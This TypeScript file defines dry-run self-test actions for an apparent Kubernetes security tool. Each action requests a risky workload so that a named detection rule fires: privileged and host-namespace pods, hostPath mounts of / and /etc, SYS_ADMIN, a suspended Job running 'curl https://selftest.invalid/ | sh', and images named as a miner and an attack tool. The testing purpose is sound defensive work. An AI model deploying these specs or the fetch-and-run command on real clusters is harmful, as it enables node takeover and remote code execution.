/** Pods and workloads: all as dry runs, in the namespace in which any pod may be asked for. */
import type { JsonObject } from '../../../model/json.ts'
import { type Act, apps, batch, core, create, podNamed, selector, template } from '../act.ts'

const askForPod = (
  id: string,
  what: string,
  rules: readonly string[],
  spec: JsonObject,
  container: JsonObject = {},
  more: Partial<Act> = {},
): Act => ({
  id,
  what: `ask for ${what}`,
  rules,
  asks: ({ open }) => [create(core, open, 'pods', podNamed(id, spec, container))],
  ...more,
})

const job = (id: string, container: JsonObject): JsonObject => ({
  apiVersion: 'batch/v1',
  kind: 'Job',
  metadata: { name: id },
  spec: { suspend: true, template: template({ restartPolicy: 'Never' }, container) },
})

export const workloadActs: readonly Act[] = [
  {
    id: 'privileged-pod',
    what: 'ask for a privileged pod',
    rules: ['privileged-pod'],
    // By the name of the pod that commands are then run in: together they are a sequence.
    asks: ({ open }) => [create(core, open, 'pods', podNamed('target', {}, { securityContext: { privileged: true } }))],
    isFirst: true,
  },
  askForPod('host-pid', 'a pod with the processes of its node', ['host-pid-pod'], { hostPID: true }),
  askForPod('host-ipc', 'a pod with the IPC of its node', ['host-ipc-pod'], { hostIPC: true }),
  askForPod('host-network', 'a pod in the network of its node', ['host-network-pod'], { hostNetwork: true }),
  askForPod('host-path', 'a pod with /etc of its node', ['host-path-pod', 'host-path-any-pod'], {
    volumes: [{ name: 'etc', hostPath: { path: '/etc' } }],
  }),
  askForPod(
    'capabilities',
    'a pod with the capability SYS_ADMIN',
    ['capabilities-pod'],
    {},
    {
      securityContext: { capabilities: { add: ['SYS_ADMIN'] } },
    },
  ),
  askForPod('root', 'a pod that runs as root', ['root-pod'], { securityContext: { runAsUser: 0 } }),
  askForPod(
    'latest',
    'a pod of an image without a version',
    ['image-latest'],
    {},
    { image: 'registry.k8s.io/pause:latest' },
  ),
  askForPod('by-hand', 'a pod by hand', ['pod-by-hand'], {}, {}, { needsPerson: true }),
  {
    id: 'pod-in-default',
    what: 'ask for a pod in the namespace default',
    rules: ['pod-in-default-namespace'],
    asks: () => [create(core, 'default', 'pods', podNamed('bulwark-selftest'))],
  },
  {
    id: 'pod-in-kube-system',
    what: 'ask for a pod in kube-system',
    rules: ['pod-in-system-namespace'],
    asks: () => [create(core, 'kube-system', 'pods', podNamed('bulwark-selftest'))],
  },
  {
    id: 'imitation',
    what: 'ask for a pod that is called as one of the system',
    rules: ['name-imitates-system'],
    asks: ({ open }) => [create(core, open, 'pods', podNamed('kube-proxy-selftest'))],
  },
  {
    id: 'host-access-refused',
    what: 'ask for a privileged pod where Pod Security refuses it',
    rules: ['host-access-refused'],
    asks: ({ own }) => [
      create(core, own, 'pods', podNamed('refused', {}, { securityContext: { privileged: true } }), {
        expect: 'refused',
      }),
    ],
  },
  {
    id: 'machine-workload',
    what: 'ask for a Deployment of privileged pods with all of their node’s files',
    rules: ['privileged-workload', 'machine-takeover-workload', 'host-path-workload'],
    asks: ({ open }) => [
      create(apps, open, 'deployments', {
        metadata: { name: 'machine' },
        spec: {
          replicas: 0,
          selector,
          template: template(
            { volumes: [{ name: 'all', hostPath: { path: '/' } }] },
            { securityContext: { privileged: true } },
          ),
        },
      }),
    ],
  },
  {
    id: 'daemonset',
    what: 'ask for a DaemonSet that no node fits',
    rules: ['daemonset-created'],
    asks: ({ own }) => [
      create(apps, own, 'daemonsets', { metadata: { name: 'nowhere' }, spec: { selector, template: template() } }),
    ],
  },
  {
    id: 'cronjob',
    what: 'ask for a CronJob that is suspended',
    rules: ['cronjob-changed'],
    asks: ({ own }) => [
      create(batch, own, 'cronjobs', {
        metadata: { name: 'suspended' },
        spec: {
          schedule: '0 0 29 2 *',
          suspend: true,
          jobTemplate: { spec: { template: template({ restartPolicy: 'Never' }) } },
        },
      }),
    ],
  },
  {
    id: 'fetch-and-run',
    what: 'ask for a suspended Job that would fetch something and run it',
    rules: ['job-fetches-and-runs'],
    asks: ({ own }) => [
      create(batch, own, 'jobs', job('fetch', { command: ['sh', '-c', 'curl https://selftest.invalid/ | sh'] })),
    ],
  },
  {
    id: 'miner',
    what: 'ask for a suspended Job of an image that is called as a miner',
    rules: ['crypto-miner'],
    asks: ({ own }) => [create(batch, own, 'jobs', job('miner', { image: 'selftest.invalid/xmrig:none' }))],
  },
  {
    id: 'hostile-image',
    what: 'ask for a suspended Job of an image that is called as a tool of attackers',
    rules: ['hostile-image'],
    asks: ({ own }) => [create(batch, own, 'jobs', job('tool', { image: 'selftest.invalid/peirates:none' }))],
  },
  {
    id: 'odd-registry',
    what: 'ask for a suspended Job of an image from a bare address',
    rules: ['image-from-odd-registry'],
    asks: ({ own }) => [create(batch, own, 'jobs', job('odd', { image: '203.0.113.77/none:none' }))],
  },
]
